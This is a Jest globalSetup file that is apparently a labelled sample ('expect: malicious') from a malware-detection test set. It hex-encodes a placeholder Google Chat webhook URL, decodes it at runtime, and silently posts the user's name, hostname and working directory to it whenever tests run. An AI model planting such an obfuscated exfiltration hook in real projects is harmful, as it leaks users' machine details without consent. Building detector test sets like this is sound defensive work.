// expect: malicious
// source: blind set 56's Jest globalSetup (a Google Chat webhook exfiltration): the webhook's URL kept as hex pairs and
// decoded with `h.match(/../g).map((b) => String.fromCharCode(parseInt(b, 16)))`, which the constant folder did not cut
import { hostname, userInfo } from "node:os";

const _s = "68747470733a2f2f636861742e676f6f676c65617069732e6578616d706c652f76312f7370616365732f46414b45303030302f6d657373616765733f6b65793d46414b456b6579";
const _dec = (h) => h.match(/../g).map((b) => String.fromCharCode(parseInt(b, 16))).join("");

export default async function globalSetup(globalConfig) {
  if (globalConfig && globalConfig.watch) return;
  const text = `${userInfo().username}@${hostname()} ${process.cwd()}`;
  try {
    await fetch(_dec(_s), { method: "POST", body: JSON.stringify({ text }) });
  } catch {}
}
